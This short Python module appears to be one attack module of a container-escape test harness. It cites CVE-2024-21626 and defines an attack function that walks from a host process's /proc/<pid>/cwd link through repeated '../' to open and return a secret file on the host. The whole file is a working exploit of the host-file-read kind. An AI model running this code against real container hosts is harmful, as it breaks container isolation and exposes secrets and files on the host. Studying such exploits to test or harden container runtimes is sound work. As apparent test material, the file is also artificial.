"""Read through the current folder of a host process."""

from __future__ import annotations

ORIGIN = "As CVE-2024-21626: a folder of the host as the way out."
SEEN = "secret"


def attack(target):
    path = f"/proc/{target['host_pid']}/cwd/" + "../" * 30 + target["secret_file"].lstrip("/")
    with open(path) as stream:
        return stream.read()
